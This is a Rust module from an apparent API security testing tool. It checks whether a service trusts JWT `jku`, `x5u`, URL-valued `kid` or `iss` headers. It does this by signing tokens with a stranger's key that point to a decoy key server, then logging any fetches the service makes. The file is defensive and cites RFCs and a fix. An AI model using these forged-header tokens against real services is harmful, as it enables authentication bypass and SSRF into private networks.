//! `jku`, `x5u` and a `kid` that is a URL, all of which lead to a key server of ours.

use crate::api::attack::Variant;
use crate::api::decoy::Decoy;
use crate::api::{ApiDrill, Runner, Workshop};
use crate::card::{Card, Evidence, Outcome, Severity};
use crate::token::quote;

pub const CARD: Card = Card {
    name: "key-by-url",
    title: "A token cannot say where its key is found",
    severity: Severity::Critical,
    why: "The attacker's server hands out the attacker's key; and merely asking there lets strangers send requests from inside \
          your network.",
    source: "RFC 8725 §3.10, RFC 7515 §4.1.2, CWE-918",
    fix: "Ignore or refuse `jku` and `x5u`; the address of the key set is configuration.",
};

pub async fn lead_astray(runner: &mut Runner<'_>, drill: &ApiDrill, shop: &Workshop) -> Outcome {
    let reached_at = match drill.decoy_address(&runner.target.url) {
        Ok(reached_at) => reached_at,
        Err(why) => return Outcome::Skipped(why),
    };
    let document = format!(r#"{{"keys":[{}]}}"#, shop.stranger.jwk());
    let Some(decoy) = Decoy::open(reached_at.as_ref(), document).await else {
        return Outcome::skipped("the address for the decoy is taken");
    };
    let mut evidence = Vec::new();
    let variants = variants(&decoy.url, shop);
    let tried = variants.len();
    for variant in variants {
        let before = decoy.asked().len();
        evidence.extend(runner.try_one(&variant).await);
        let asked = decoy.asked().split_off(before);
        evidence.extend(asked.iter().map(|path| {
            let came = format!("the service asked our server for {path}");
            Evidence::of(variant.what.clone(), came)
        }));
    }
    Outcome::of(tried, evidence)
}

fn variants(decoy: &str, shop: &Workshop) -> Vec<Variant> {
    let key = &shop.stranger;
    let header = shop.header().with("alg", quote(key.algorithm().as_str()));
    let own = header.clone().with("kid", quote(key.kid()));
    let at = |path: &str| quote(&format!("{decoy}/{path}"));
    [
        (
            "`jku` under the issuer's `kid`",
            header.clone().with("jku", at("jwks.json")),
        ),
        (
            "`jku` under its own `kid`",
            own.clone().with("jku", at("jwks.json")),
        ),
        ("`x5u`", own.clone().with("x5u", at("chain.pem"))),
        ("a `kid` that is a URL", header.with("kid", at("key.json"))),
        ("`iss` of ours in the header", own.with("iss", quote(decoy))),
    ]
    .map(|(what, header)| {
        let token = key.sign(&header, &shop.claims());
        Variant::token(format!("signed by a stranger, {what}"), token)
    })
    .into()
}
